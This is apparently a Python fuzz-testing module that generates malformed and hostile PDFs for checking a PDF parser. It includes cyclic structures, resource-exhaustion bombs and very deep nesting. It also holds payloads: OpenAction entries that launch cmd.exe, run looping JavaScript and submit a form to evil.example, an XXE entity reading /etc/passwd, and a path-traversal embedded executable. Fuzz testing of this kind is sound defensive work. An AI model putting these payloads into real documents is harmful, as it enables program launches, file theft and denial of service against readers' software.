"""Hostile structure of a PDF: page trees, cross-reference tables, objects in one another, scripts and files in it."""

import re
from collections.abc import Sequence

from fuzz.pdf_syntax import (
    A4,
    HELVETICA,
    Object,
    Stream,
    build_pdf,
    deflated,
    filters,
    one_page,
    plain_pdf,
    text,
)

PLAIN = plain_pdf()


def replaced(old: bytes | str, new: bytes | str, whole: bytes = PLAIN) -> bytes:
    """The ordinary report with one part of it replaced; the offsets are not put right."""
    old, new = (part.encode("latin-1") if isinstance(part, str) else part for part in (old, new))
    assert old in whole
    return whole.replace(old, new, 1)


def with_table(rows: bytes, start: bytes | None = None) -> bytes:
    """The ordinary report with these rows as its cross-reference table, and another place where it is said to be."""
    body, _, rest = PLAIN.partition(b"xref\n")
    trailer = rest[rest.index(b"trailer") :]
    if start is not None:
        trailer = re.sub(rb"startxref\n\d+", b"startxref\n" + start, trailer)
    return body + b"xref\n" + rows + trailer


def table_of_tables() -> bytes:
    """The ordinary report whose table says that an older one is before it: itself."""
    place = int(PLAIN.split(b"startxref\n")[1].split()[0])
    return replaced("/Root 1 0 R", f"/Prev {place} /Root 1 0 R")


def stream_table(entries: str, data: bytes, objects: Sequence[Object] | None = None) -> bytes:
    """A report whose cross-reference table is a stream with these entries."""
    written = build_pdf(objects or one_page(text())).partition(b"xref\n")[0]
    stream = f"99 0 obj\n<< /Type /XRef /Root 1 0 R {entries} /Length {len(data)} >>\nstream\n".encode() + data
    return written + stream + f"\nendstream\nendobj\nstartxref\n{len(written)}\n%%EOF\n".encode()


def objects_in_objects() -> bytes:
    """A report whose objects are said to lie in a stream that is said to lie in itself."""
    rows = bytes.fromhex("00000000") + b"".join(b"\x02" + (6).to_bytes(2, "big") + b"\x00" for _ in range(6))
    objects = [*one_page(text()), Stream(b"6 0 1 0 << >>", "/Type /ObjStm /N 1000000000 /First 8 /Extends 6 0 R")]
    return stream_table("/Size 7 /W [1 2 1]", rows, objects)


def page_tree(kids: str, count: int, more: Sequence[Object] = (), pages: str = "") -> bytes:
    """A report whose page tree has these children and says that there are so many; object 3 is its page."""
    objects = one_page(text(), more)
    objects[1] = f"<< /Type /Pages /Kids [{kids}] /Count {count} {pages} >>"
    return build_pdf(objects)


def real_pages(count: int) -> bytes:
    """So many small pages, each an object of its own; they share their contents."""
    first = 6
    kids = " ".join(f"{first + number} 0 R" for number in range(count))
    page = f"<< /Type /Page /Parent 2 0 R /MediaBox {A4} /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
    return page_tree(kids, count, [page] * count)


def branching_pages(levels: int = 30) -> bytes:
    """A page tree whose every branch has the next one twice: 2^30 pages in a kilobyte."""
    branches = [
        f"<< /Type /Pages /Parent 2 0 R /Kids [{after} 0 R {after} 0 R] /Count {2 ** (levels - number)} >>"
        for number, after in enumerate([*range(7, 6 + levels), 3])
    ]
    return page_tree("6 0 R", 2**levels, branches)


def deep_page_tree(levels: int = 100_000) -> bytes:
    """A page tree so many levels deep, with one page at its end."""
    branches = [f"<< /Type /Pages /Kids [{after} 0 R] /Count 1 >>" for after in [*range(7, 6 + levels), 3]]
    return page_tree("6 0 R", 1, branches)


def nested(opening: str, closing: str, levels: int = 100_000) -> bytes:
    """A report with an entry in its page so many levels deep."""
    return build_pdf(one_page(text(), page=f"/X {opening * levels} {closing * levels}"))


def chained_lengths(count: int = 20_000) -> bytes:
    """The length of the contents is another object's number, and so on."""
    more = [f"{number} 0 R" for number in range(7, 6 + count)]
    return build_pdf(one_page(Stream(text(), "/Length 6 0 R"), [*more, "10"]))


def outline_in_a_ring() -> bytes:
    """Bookmarks that each say that the other is next, and below."""
    more = [
        "<< /Type /Outlines /First 7 0 R /Last 8 0 R /Count 2 >>",
        "<< /Title (Ett) /Parent 6 0 R /Next 8 0 R /First 8 0 R /Count 1 /Dest [3 0 R /Fit] >>",
        "<< /Title (Två) /Parent 7 0 R /Next 7 0 R /First 7 0 R /Count 1 /Dest [3 0 R /Fit] >>",
    ]
    return build_pdf(one_page(text(), more, catalogue="/Outlines 6 0 R"))


def labels_and_tags_in_a_ring() -> bytes:
    """Page labels, tags and names whose trees hold themselves."""
    more = [
        "<< /Kids [6 0 R 6 0 R] /Limits [0 9] >>",
        "<< /Type /StructTreeRoot /K [7 0 R 8 0 R] /ParentTree 6 0 R >>",
        "<< /Type /StructElem /S /P /P 8 0 R /K [8 0 R 8 0 R] /Pg 3 0 R >>",
    ]
    catalogue = "/PageLabels 6 0 R /StructTreeRoot 7 0 R /MarkInfo << /Marked true >> /Names << /Dests 6 0 R >>"
    return build_pdf(one_page(text(), more, page="/StructParents 0", catalogue=catalogue))


def hostile_labels() -> bytes:
    """Printed page numbers of a million characters, with control characters."""
    label = "<< /Nums [0 << /S /r /St 2000000000 /P (" + "\\000\\033" + "x" * 1_000_000 + ") >>] >>"
    return build_pdf(one_page(text(), catalogue=f"/PageLabels {label}"))


ACTIONS = {
    "skript när filen öppnas": "/OpenAction << /S /JavaScript /JS (while\\(true\\){app.alert\\(1\\)}) >>",
    "ett program startas när filen öppnas": "/OpenAction << /S /Launch /F (calc.exe) /Win << /F (cmd.exe) >> >>",
    "en webbadress hämtas när filen öppnas": "/OpenAction << /S /URI /URI (http://evil.example/x) >>",
    "ett formulär skickas när filen öppnas": "/OpenAction << /S /SubmitForm /F (http://evil.example/x) >>",
}


def with_form() -> bytes:
    """A form with a field whose scripts run as it is shown, and an XFA form."""
    xfa = b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><xdp xmlns='http://ns.adobe.com/xdp/'>&b;</xdp>"
    script = "<< /S /JavaScript /JS (this.getField\\('x'\\).value = 'hemligt'; while\\(true\\){}) >>"
    field = "<< /Type /Annot /Subtype /Widget /FT /Tx /T (x) /V (i rutan) /Rect [0 0 99 99] "
    field += f"/AA << /F {script} /PO {script} >> >>"
    catalogue = "/AcroForm << /Fields [7 0 R] /XFA 6 0 R /CO [7 0 R] /NeedAppearances true >>"
    return build_pdf(one_page(text(), [Stream(xfa), field], page="/Annots [7 0 R]", catalogue=catalogue))


def with_files() -> bytes:
    """A file with others in it: a program with a path for a name, and a gigabyte of zeros."""
    more: list[Object] = [
        "<< /Type /Filespec /F (../../../etc/x.exe) /UF (../../../etc/x.exe) /EF << /F 7 0 R >> >>",
        Stream(deflated(bytes(2**20), 1024), "/Type /EmbeddedFile " + filters(["FlateDecode"])),
    ]
    names = "/Names << /EmbeddedFiles << /Names [(x) 6 0 R] >> >>"
    annotation = "/Annots [<< /Type /Annot /Subtype /FileAttachment /FS 6 0 R /Rect [0 0 9 9] >>]"
    return build_pdf(one_page(text(), more, page=annotation, catalogue=names))


def many_annotations(count: int = 200_000) -> bytes:
    """So many notes on one page, all of them one object."""
    note = "<< /Type /Annot /Subtype /Text /Contents (x) /Rect [0 0 9 9] >>"
    return build_pdf(one_page(text(), [note], page=f"/Annots [{'6 0 R ' * count}]"))


def contents_outside() -> bytes:
    """Contents that are said to lie in another file."""
    return build_pdf(one_page(Stream(text(), "/F (/etc/passwd) /FFilter [/FlateDecode]")))


def rotated(degrees: int, inherited: bool = False) -> bytes:
    """The ordinary report turned; the lines are written so that they are read from left to right on the turned page."""
    turns = {90: "0 1 -1 0 150 100 cm", 180: "-1 0 0 -1 523 122 cm", 270: "0 -1 1 0 445 742 cm"}
    lines = text(left=0, top=0)
    objects = one_page(f"q {turns.get(degrees, '1 0 0 1 72 720 cm')} ".encode() + lines + b" Q")
    place = 1 if inherited else 2
    objects[place] = str(objects[place]).replace("/Type", f"/Rotate {degrees} /Type", 1)
    return build_pdf(objects)


def padded(size: int, after: bool = False) -> bytes:
    """The ordinary report with spaces up to a size, before its table or after its end."""
    if after:
        return PLAIN + b" " * (size - len(PLAIN))
    return build_pdf(one_page(text(), [Stream(bytes(size))]))


def without_font() -> bytes:
    """The lines in a font that is named and is nowhere."""
    return build_pdf(one_page(text(), font="null"))


def with_title(title: str) -> bytes:
    """The ordinary report with this title among its properties."""
    return build_pdf(one_page(text(), [f"<< /Title ({title}) /Author ({title}) >>"]), trailer="/Info 6 0 R")


def widths(value: str) -> bytes:
    """The lines in a font whose letters are all so wide."""
    font = HELVETICA.removesuffix(">>") + f"/FirstChar 32 /LastChar 255 /Widths [{f'{value} ' * 224}] >>"
    return build_pdf(one_page(text(), font=font))
